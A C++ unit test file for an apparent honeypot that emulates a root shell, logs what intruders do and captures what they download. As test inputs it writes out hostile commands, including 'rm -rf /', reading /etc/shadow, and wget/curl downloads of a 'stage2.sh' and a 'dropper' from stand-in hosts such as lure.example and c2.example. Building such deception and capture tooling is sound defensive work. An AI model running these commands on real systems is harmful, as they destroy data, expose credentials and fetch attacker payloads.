// Copyright 2026 The Gamepot Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include <unistd.h>

#include "gamepot/capture.hpp"
#include "gamepot/errors.hpp"
#include "gamepot/fakefs.hpp"
#include "gamepot/log.hpp"
#include "gamepot/policy.hpp"
#include "gamepot/shell.hpp"

using namespace gamepot;
using namespace gamepot::shell;

namespace {

std::string temp_name(const std::string& tag) {
  static int counter = 0;
  return (std::filesystem::temp_directory_path() /
          ("gamepot_shell_" + tag + "_" + std::to_string(::getpid()) + "_" +
           std::to_string(++counter)))
      .string();
}

std::unique_ptr<policy::Policy> fixed_policy(const std::string& action,
                                             std::uint64_t seed = 7) {
  const std::string cfg = R"({"name":"fixed","mixture":{"allow":)" +
                          std::string(action == "allow" ? "1" : "0") +
                          R"(,"block":)" +
                          std::string(action == "block" ? "1" : "0") +
                          R"(,"insult":)" +
                          std::string(action == "insult" ? "1" : "0") + "}}";
  return policy::make_policy_from_config(cfg, seed);
}

struct Bench {
  FakeClock clock{1723629600000};  // 2024-08-14T10:00:00.000Z
  std::unique_ptr<ShellSession> session;

  explicit Bench(const std::string& action = "allow",
                 logging::Writer* log = nullptr, ShellConfig cfg = {},
                 Fetcher* fetcher = nullptr, CaptureStore* captures = nullptr) {
    session = std::make_unique<ShellSession>(
        "s-test", "203.0.113.7", fixed_policy(action), clock, log,
        build_default_fs(), cfg, fetcher, captures);
  }
  ShellSession& sh() { return *session; }
};

}  // namespace

// ---------------------------------------------------------------------------
// FakeFs
// ---------------------------------------------------------------------------

TEST_CASE("path normalization") {
  CHECK(FakeFs::normalize("b", "/a") == "/a/b");
  CHECK(FakeFs::normalize("..", "/a/b") == "/a");
  CHECK(FakeFs::normalize("/x/./y//z", "/ignored") == "/x/y/z");
  CHECK(FakeFs::normalize("../../..", "/a/b") == "/");
  CHECK(FakeFs::normalize(".", "/a") == "/a");
  CHECK(FakeFs::normalize("", "/a") == "/a");
  CHECK(FakeFs::normalize("/", "/a") == "/");
  CHECK(FakeFs::normalize("a/../c", "/") == "/c");
}

TEST_CASE("default image looks like a small server") {
  FakeFs fs = build_default_fs();
  CHECK(fs.file_count() >= 20);
  CHECK(fs.max_depth() >= 4);
  CHECK(fs.is_dir("/home/anna"));
  CHECK(fs.is_dir("/home/bruno"));
  CHECK(fs.exists("/home/anna/work/reports/2024/q3/summary.txt"));
  CHECK(fs.exists("/home/bruno/work/deploy/staging/secrets.env"));
  CHECK(fs.read("/etc/hostname") == "svr04\n");
  CHECK(fs.read("/etc/passwd").find("anna") != std::string::npos);
  CHECK(fs.read("/etc/passwd").find("bruno") != std::string::npos);
  // Bait content is worth lingering over.
  CHECK(fs.read("/home/bruno/work/deploy/staging/secrets.env")
            .find("PASSWORD") != std::string::npos);
}

TEST_CASE("filesystem mutation and errors") {
  FakeFs fs = build_default_fs();
  fs.mkdir("/tmp/lab");
  fs.write_file("/tmp/lab/a.txt", "one\n");
  fs.write_file("/tmp/lab/a.txt", "two\n", "root", /*append=*/true);
  CHECK(fs.read("/tmp/lab/a.txt") == "one\ntwo\n");
  fs.write_file("/tmp/lab/a.txt", "fresh\n");
  CHECK(fs.read("/tmp/lab/a.txt") == "fresh\n");

  CHECK_THROWS_AS(fs.mkdir("/no/such/parent"), DomainError);
  CHECK_THROWS_AS(fs.mkdir("/tmp/lab"), DomainError);
  CHECK_THROWS_AS(fs.list("/tmp/lab/a.txt"), DomainError);
  CHECK_THROWS_AS(fs.read("/tmp/lab"), DomainError);

  CHECK_FALSE(fs.remove("/ghost", false));
  CHECK_FALSE(fs.remove("/tmp/lab", false));  // non-empty needs recursive
  CHECK(fs.remove("/tmp/lab", true));
  CHECK_FALSE(fs.exists("/tmp/lab"));

  const std::vector<std::string> home = fs.list("/home");
  CHECK(std::is_sorted(home.begin(), home.end()));
}

TEST_CASE("sessions get private copies of the image") {
  FakeFs base = build_default_fs();
  FakeFs copy = base;
  copy.remove("/home/anna", true);
  CHECK_FALSE(copy.exists("/home/anna"));
  CHECK(base.exists("/home/anna"));
}

// ---------------------------------------------------------------------------
// Capture
// ---------------------------------------------------------------------------

TEST_CASE("sha256 known vectors") {
  CHECK(sha256_hex("abc") ==
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  CHECK(sha256_hex("") ==
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
}

TEST_CASE("capture store deduplicates by content") {
  CaptureStore store;
  const CaptureStore::Entry first = store.store("http://a/x", "payload");
  const CaptureStore::Entry again = store.store("http://b/y", "payload");
  CHECK(first.new_capture);
  CHECK_FALSE(again.new_capture);
  CHECK(first.sha256 == again.sha256);
  CHECK(store.unique_count() == 1);
  CHECK(store.contains_hash(first.sha256));
  CHECK_FALSE(store.contains_hash(std::string(64, '0')));
}

TEST_CASE("capture store persists new payloads") {
  const std::string dir = temp_name("captures");
  {
    CaptureStore store(dir);
    const CaptureStore::Entry e = store.store("http://a/x", "bytes here");
    const std::string path = dir + "/" + e.sha256;
    REQUIRE(std::filesystem::exists(path));
    std::ifstream in(path, std::ios::binary);
    std::string content((std::istreambuf_iterator<char>(in)),
                        std::istreambuf_iterator<char>());
    CHECK(content == "bytes here");
  }
  std::filesystem::remove_all(dir);
}

TEST_CASE("fetchers") {
  StubFetcher stub;
  const Fetcher::Result a = stub.fetch("http://host/tool.sh");
  const Fetcher::Result b = stub.fetch("http://host/tool.sh");
  const Fetcher::Result c = stub.fetch("http://host/other.sh");
  CHECK(a.ok);
  CHECK(a.content == b.content);  // same URL, same bytes
  CHECK(a.content != c.content);
  CHECK_FALSE(a.content.empty());

  OfflineFetcher offline;
  const Fetcher::Result off = offline.fetch("http://host/tool.sh");
  CHECK_FALSE(off.ok);
  CHECK(off.error == "Temporary failure in name resolution");
}

// ---------------------------------------------------------------------------
// Shell basics
// ---------------------------------------------------------------------------

TEST_CASE("identity commands") {
  Bench b;
  CHECK(b.sh().handle_line("whoami") == "root\n");
  CHECK(b.sh().handle_line("pwd") == "/root\n");
  CHECK(b.sh().handle_line("hostname") == "svr04\n");
  CHECK(b.sh().handle_line("id") == "uid=0(root) gid=0(root) groups=0(root)\n");
  const std::string uname = b.sh().handle_line("uname -a");
  CHECK(uname.find("Linux svr04") == 0);
  CHECK(uname.find("x86_64") != std::string::npos);
  CHECK(b.sh().handle_line("echo hello world") == "hello world\n");
  CHECK(b.sh().handle_line("echo 'a  b'") == "a  b\n");
  CHECK(b.sh().handle_line("frobnicate") ==
        "bash: frobnicate: command not found\n");
}

TEST_CASE("prompt tracks the working directory") {
  Bench b;
  CHECK(b.sh().prompt() == "root@svr04:~# ");
  b.sh().handle_line("cd /home/anna");
  CHECK(b.sh().prompt() == "root@svr04:/home/anna# ");
  CHECK(b.sh().handle_line("cd /nope") ==
        "bash: cd: /nope: No such file or directory\n");
  CHECK(b.sh().prompt() == "root@svr04:/home/anna# ");
}

TEST_CASE("directory and file commands") {
  Bench b;
  CHECK(b.sh().handle_line("ls /home") == "anna  bruno\n");
  CHECK(b.sh().handle_line("cat /etc/hostname") == "svr04\n");
  CHECK(b.sh().handle_line("cat /nope") ==
        "cat: /nope: No such file or directory\n");
  CHECK(b.sh().handle_line("cat /home") == "cat: /home: Is a directory\n");

  const std::string long_ls = b.sh().handle_line("ls -la /home/anna");
  CHECK(long_ls.find("total") == 0);
  CHECK(long_ls.find(".bashrc") != std::string::npos);
  CHECK(long_ls.find("anna") != std::string::npos);
  CHECK(long_ls.find("drwx") != std::string::npos);

  // Hidden files stay hidden without -a.
  const std::string plain = b.sh().handle_line("ls /home/anna");
  CHECK(plain.find(".bashrc") == std::string::npos);

  b.sh().handle_line("mkdir /tmp/work");
  b.sh().handle_line("touch /tmp/work/todo");
  CHECK(b.sh().fs().exists("/tmp/work/todo"));
  CHECK(b.sh().handle_line("ls /tmp/work") == "todo\n");
  b.sh().handle_line("rm -r /tmp/work");
  CHECK_FALSE(b.sh().fs().exists("/tmp/work"));

  CHECK(b.sh().handle_line("mkdir /tmp/work/deep") ==
        "mkdir: cannot create directory '/tmp/work/deep': No such file or "
        "directory\n");
  b.sh().handle_line("mkdir -p /tmp/work/deep/nest");
  CHECK(b.sh().fs().is_dir("/tmp/work/deep/nest"));
}

TEST_CASE("redirection writes into the fake filesystem") {
  Bench b;
  CHECK(b.sh().handle_line("echo hi > /tmp/f.txt") == "");
  CHECK(b.sh().fs().read("/tmp/f.txt") == "hi\n");
  b.sh().handle_line("echo again >> /tmp/f.txt");
  CHECK(b.sh().fs().read("/tmp/f.txt") == "hi\nagain\n");
  b.sh().handle_line("echo fresh > /tmp/f.txt");
  CHECK(b.sh().fs().read("/tmp/f.txt") == "fresh\n");
  CHECK(b.sh().handle_line("echo x > /nope/f") ==
        "bash: /nope/f: No such file or directory\n");
  CHECK(b.sh().handle_line("cat /tmp/f.txt") == "fresh\n");
}

TEST_CASE("pipelines") {
  Bench b;
  const std::string got = b.sh().handle_line("cat /etc/passwd | grep anna");
  CHECK(got.find("anna:x:1000") != std::string::npos);
  CHECK(got.find("bruno") == std::string::npos);
  const std::string count = b.sh().handle_line("cat /etc/passwd | wc -l");
  CHECK(std::stoi(count) >= 3);
  CHECK(b.sh().handle_line("echo one; echo two | grep two") == "one\ntwo\n");
  const std::string top = b.sh().handle_line("find /home/anna | head -n 2");
  CHECK(std::count(top.begin(), top.end(), '\n') == 2);
}

TEST_CASE("chained segments and command counting") {
  Bench b;
  CHECK(b.sh().handle_line("mkdir /tmp/a && cd /tmp/a; pwd") == "/tmp/a\n");
  CHECK(b.sh().command_count() == 1);  // one input line
  CHECK(b.sh().handle_line("") == "");
  CHECK(b.sh().handle_line("   ") == "");
  CHECK(b.sh().command_count() == 1);  // blanks do not count
  b.sh().handle_line("pwd");
  CHECK(b.sh().command_count() == 2);
}

TEST_CASE("history recalls past lines") {
  Bench b;
  b.sh().handle_line("pwd");
  b.sh().handle_line("whoami");
  const std::string hist = b.sh().handle_line("history");
  CHECK(hist.find("1  pwd") != std::string::npos);
  CHECK(hist.find("2  whoami") != std::string::npos);
  CHECK(hist.find("3  history") != std::string::npos);
}

TEST_CASE("flavor commands answer plausibly") {
  Bench b;
  CHECK(b.sh().handle_line("sudo cat /etc/shadow") ==
        "root is not in the sudoers file.  This incident will be reported.\n");
  const std::string apt = b.sh().handle_line("apt install nmap");
  CHECK(apt.find("Reading package lists... Done") != std::string::npos);
  CHECK(apt.find("E: Unable to locate package nmap") != std::string::npos);
  const std::string update = b.sh().handle_line("apt-get update");
  CHECK(update.find("Temporary failure resolving") != std::string::npos);
  CHECK(b.sh().handle_line("ps").find("PID TTY") != std::string::npos);
  CHECK(b.sh().handle_line("ps aux").find("/sbin/init") != std::string::npos);
  CHECK(b.sh().handle_line("ifconfig").find("10.0.2.15") != std::string::npos);
  CHECK(b.sh().handle_line("ip a").find("10.0.2.15") != std::string::npos);
  CHECK(b.sh().handle_line("uptime").find("load average") !=
        std::string::npos);
  CHECK(b.sh().handle_line("df -h").find("/dev/vda1") != std::string::npos);
  CHECK(b.sh().handle_line("free -m").find("Mem:") != std::string::npos);
  CHECK(b.sh().handle_line("which ls wget") == "/usr/bin/ls\n/usr/bin/wget\n");
  CHECK(b.sh().handle_line("env").find("SHELL=/bin/bash") !=
        std::string::npos);
  CHECK(b.sh().handle_line("date").find("2024") != std::string::npos);
  CHECK(b.sh().handle_line("ufw enable") ==
        "Firewall is active and enabled on system startup\n");
  CHECK(b.sh().handle_line("ssh admin@10.0.0.9")
            .find("Connection timed out") != std::string::npos);
}

TEST_CASE("vandalism stays inside the sandbox") {
  Bench b;  // root session: nothing stops it inside its own copy
  b.sh().handle_line("rm -rf /");
  CHECK(b.sh().fs().file_count() == 0);
  CHECK(b.sh().handle_line("ls /") == "");  // an empty root, but a root
  // The session itself keeps running.
  CHECK(b.sh().handle_line("echo still here") == "still here\n");
}

TEST_CASE("non-root users hit ownership walls") {
  ShellConfig cfg;
  cfg.username = "bruno";
  Bench b("allow", nullptr, cfg);
  const std::size_t files_before = b.sh().fs().file_count();

  CHECK(b.sh().prompt() == "bruno@svr04:~$ ");
  CHECK(b.sh().handle_line("rm -rf /") ==
        "rm: cannot remove '/': Permission denied\n");
  CHECK(b.sh().handle_line("rm -rf /etc") ==
        "rm: cannot remove '/etc': Permission denied\n");
  CHECK(b.sh().handle_line("rm /home/anna/todo.txt") ==
        "rm: cannot remove '/home/anna/todo.txt': Permission denied\n");
  CHECK(b.sh().handle_line("mkdir /opt/tool") ==
        "mkdir: cannot create directory '/opt/tool': Permission denied\n");
  CHECK(b.sh().handle_line("touch /etc/marker") ==
        "touch: cannot touch '/etc/marker': Permission denied\n");
  CHECK(b.sh().handle_line("echo x > /etc/motd") ==
        "bash: /etc/motd: Permission denied\n");
  CHECK(b.sh().fs().file_count() == files_before);

  // Own home and /tmp stay writable.
  CHECK(b.sh().handle_line("mkdir -p ~/drop/a/b") == "");
  CHECK(b.sh().handle_line("echo hi > /tmp/x") == "");
  CHECK(b.sh().handle_line("cat /tmp/x") == "hi\n");
  CHECK(b.sh().handle_line("rm notes.txt") == "");
  // Reads are not gated; the lure files stay reachable.
  CHECK(b.sh().handle_line("cat /etc/passwd").find("anna") !=
        std::string::npos);
}

TEST_CASE("bare returns are logged but not counted") {
  const std::string path = temp_name("returns") + ".ndjson";
  {
    logging::Writer log({path, 1 << 20, 2});
    Bench b("allow", &log);
    b.sh().handle_line("whoami");
    b.sh().handle_line("");
    b.sh().handle_line("   ");
    b.sh().handle_line("pwd");
    b.sh().handle_line("");
    CHECK(b.sh().command_count() == 2);
    b.sh().close("disconnect");
  }
  const logging::ParseResult parsed = logging::parse_log_file(path, true);
  int keystrokes = 0;
  int inputs = 0;
  for (const logging::Event& ev : parsed.events) {
    if (ev.eventid() == logging::kEvKeystroke) ++keystrokes;
    if (ev.eventid() == logging::kEvCommandInput) ++inputs;
  }
  CHECK(keystrokes == 3);
  CHECK(inputs == 2);
  std::remove(path.c_str());
}

// ---------------------------------------------------------------------------
// Policy integration
// ---------------------------------------------------------------------------

TEST_CASE("blocked commands answer with bash framing and do nothing") {
  Bench b("block");
  const std::string out = b.sh().handle_line("mkdir /tmp/zzz");
  REQUIRE(out.rfind("bash: mkdir: ", 0) == 0);
  const std::string reason = out.substr(13, out.size() - 14);  // strip \n
  const auto& corpus = policy::block_messages();
  CHECK(std::find(corpus.begin(), corpus.end(), reason) != corpus.end());
  CHECK_FALSE(b.sh().fs().exists("/tmp/zzz"));
  CHECK(b.sh().command_count() == 1);
}

TEST_CASE("insults speak for themselves") {
  Bench b("insult");
  const std::string out = b.sh().handle_line("cat /etc/passwd");
  REQUIRE(!out.empty());
  CHECK(out.rfind("bash:", 0) != 0);
  const std::string text = out.substr(0, out.size() - 1);
  const auto& corpus = policy::insult_messages();
  CHECK(std::find(corpus.begin(), corpus.end(), text) != corpus.end());
}

TEST_CASE("exit and logout bypass the policy") {
  for (const char* word : {"exit", "logout"}) {
    Bench b("insult");  // would taunt anything that ran through the policy
    CHECK(b.sh().handle_line(word) == "logout\n");
    CHECK(b.sh().is_closed());
    CHECK(b.sh().close_reason() == "exit");
    CHECK_THROWS_AS(b.sh().handle_line("pwd"), SessionStateError);
    CHECK_THROWS_AS(b.sh().close("again"), SessionStateError);
  }
}

// ---------------------------------------------------------------------------
// Lifetime limits
// ---------------------------------------------------------------------------

TEST_CASE("hard session cap closes without processing") {
  Bench b;
  for (int i = 0; i < 8; ++i) {
    b.clock.advance_seconds(100);
    CHECK(b.sh().handle_line("pwd") == "/root\n");
  }
  CHECK(b.sh().command_count() == 8);
  b.clock.advance_seconds(100);  // 900s since start
  CHECK(b.sh().handle_line("pwd") == "");
  CHECK(b.sh().is_closed());
  CHECK(b.sh().close_reason() == "session-cap");
  CHECK(b.sh().command_count() == 8);  // capped line never ran
}

TEST_CASE("idle timeout") {
  Bench b;
  b.sh().handle_line("pwd");
  b.clock.advance_seconds(180);
  CHECK(b.sh().handle_line("whoami") == "");
  CHECK(b.sh().close_reason() == "idle-timeout");
}

TEST_CASE("cap takes precedence when both limits have passed") {
  Bench b;
  b.clock.advance_seconds(950);
  b.sh().handle_line("pwd");
  CHECK(b.sh().close_reason() == "session-cap");
}

TEST_CASE("limits are configurable") {
  ShellConfig cfg;
  cfg.hard_cap_seconds = 10;
  cfg.idle_timeout_seconds = 5;
  Bench b("allow", nullptr, cfg);
  b.clock.advance_seconds(5);
  b.sh().handle_line("pwd");
  CHECK(b.sh().close_reason() == "idle-timeout");

  ShellConfig bad;
  bad.hard_cap_seconds = 0;
  FakeClock clock;
  CHECK_THROWS_AS(ShellSession("s", "ip", fixed_policy("allow"), clock,
                               nullptr, build_default_fs(), bad),
                  ConfigError);
}

// ---------------------------------------------------------------------------
// Events
// ---------------------------------------------------------------------------

TEST_CASE("sessions narrate themselves into the log") {
  const std::string path = temp_name("events") + ".ndjson";
  {
    logging::Writer writer({path, 1 << 20, 2});
    ShellConfig cfg;
    cfg.instance = "unit";
    Bench b("allow", &writer, cfg);
    b.sh().handle_line("ls /home");
    b.sh().handle_line("exit");
  }
  const logging::ParseResult parsed = logging::parse_log_file(path, true);
  // ls: input + policy; exit: input only (no policy), then the close record.
  REQUIRE(parsed.events.size() == 4);

  CHECK(parsed.events[0].eventid() == logging::kEvCommandInput);
  CHECK(parsed.events[0].body.at("input") == "ls /home");
  CHECK(parsed.events[0].body.at("instance") == "unit");
  CHECK(parsed.events[0].session() == "s-test");

  CHECK(parsed.events[1].eventid() == logging::kEvPolicyAction);
  CHECK(parsed.events[1].body.at("action") == "allow");
  CHECK(parsed.events[1].body.at("command") == "ls /home");
  CHECK_FALSE(parsed.events[1].body.contains("message"));

  CHECK(parsed.events[2].eventid() == logging::kEvCommandInput);
  CHECK(parsed.events[3].eventid() == logging::kEvClosed);

  // Timestamps match the fake clock epoch.
  CHECK(parsed.events[0].body.at("timestamp") == "2024-08-14T10:00:00.000Z");

  const logging::Event& closed = parsed.events[3];
  CHECK(closed.body.at("reason") == "exit");
  CHECK(closed.body.at("commands") == 2);
  CHECK(closed.body.at("duration") == 0.0);
  std::remove(path.c_str());
}

TEST_CASE("blocked commands log their message") {
  const std::string path = temp_name("blocklog") + ".ndjson";
  {
    logging::Writer writer({path, 1 << 20, 2});
    Bench b("block", &writer);
    b.sh().handle_line("wget http://x/y");
  }
  const logging::ParseResult parsed = logging::parse_log_file(path, true);
  bool saw_policy = false;
  for (const logging::Event& ev : parsed.events) {
    if (ev.eventid() == logging::kEvPolicyAction) {
      saw_policy = true;
      CHECK(ev.body.at("action") == "block");
      CHECK(ev.body.contains("message"));
    }
    CHECK(ev.eventid() != logging::kEvDownload);  // blocked: nothing fetched
  }
  CHECK(saw_policy);
  std::remove(path.c_str());
}

TEST_CASE("keystroke logging is opt-in") {
  const std::string path = temp_name("keys") + ".ndjson";
  {
    logging::Writer writer({path, 1 << 20, 2});
    ShellConfig cfg;
    cfg.log_keystrokes = true;
    Bench b("allow", &writer, cfg);
    b.sh().handle_line("pwd");
  }
  const logging::ParseResult parsed = logging::parse_log_file(path, true);
  int keys = 0;
  for (const logging::Event& ev : parsed.events) {
    if (ev.eventid() == logging::kEvKeystroke) ++keys;
  }
  CHECK(keys == 3);
  std::remove(path.c_str());
}

// ---------------------------------------------------------------------------
// Downloads
// ---------------------------------------------------------------------------

TEST_CASE("wget captures the payload") {
  const std::string path = temp_name("wget") + ".ndjson";
  CaptureStore store;
  {
    logging::Writer writer({path, 1 << 20, 2});
    StubFetcher fetcher;
    Bench b("allow", &writer, {}, &fetcher, &store);
    const std::string out =
        b.sh().handle_line("wget http://lure.example/stage2.sh");
    CHECK(out.find("200 OK") != std::string::npos);
    CHECK(out.find("'stage2.sh' saved") != std::string::npos);
    CHECK(b.sh().fs().exists("/root/stage2.sh"));

    // Same URL again: bytes dedup, file rewritten.
    b.sh().handle_line("wget http://lure.example/stage2.sh");
    CHECK(store.unique_count() == 1);
  }
  const logging::ParseResult parsed = logging::parse_log_file(path, true);
  int downloads = 0;
  for (const logging::Event& ev : parsed.events) {
    if (ev.eventid() != logging::kEvDownload) continue;
    ++downloads;
    CHECK(ev.body.at("url") == "http://lure.example/stage2.sh");
    CHECK(ev.body.at("sha256").get<std::string>().size() == 64);
    CHECK(ev.body.at("size").get<int>() > 0);
    CHECK(ev.body.at("new") == (downloads == 1));
  }
  CHECK(downloads == 2);
  std::remove(path.c_str());
}

TEST_CASE("curl to stdout still captures") {
  CaptureStore store;
  StubFetcher fetcher;
  Bench b("allow", nullptr, {}, &fetcher, &store);
  const std::string out = b.sh().handle_line("curl http://c2.example/a");
  CHECK(out == fetcher.fetch("http://c2.example/a").content);
  CHECK(store.unique_count() == 1);

  b.sh().handle_line("curl -o /tmp/dropper http://c2.example/b");
  CHECK(b.sh().fs().exists("/tmp/dropper"));
  CHECK(store.unique_count() == 2);
}

TEST_CASE("offline fetcher fails like a dead network") {
  CaptureStore store;
  OfflineFetcher fetcher;
  Bench b("allow", nullptr, {}, &fetcher, &store);
  const std::string wget = b.sh().handle_line("wget http://lure.example/x");
  CHECK(wget.find("Temporary failure in name resolution") !=
        std::string::npos);
  CHECK(wget.find("unable to resolve host address 'lure.example'") !=
        std::string::npos);
  CHECK(b.sh().handle_line("curl http://lure.example/x") ==
        "curl: (6) Could not resolve host: lure.example\n");
  CHECK(store.unique_count() == 0);
  CHECK_FALSE(b.sh().fs().exists("/root/x"));
}

TEST_CASE("downloaded names fall back to index.html") {
  CaptureStore store;
  StubFetcher fetcher;
  Bench b("allow", nullptr, {}, &fetcher, &store);
  b.sh().handle_line("wget http://lure.example/");
  CHECK(b.sh().fs().exists("/root/index.html"));
}
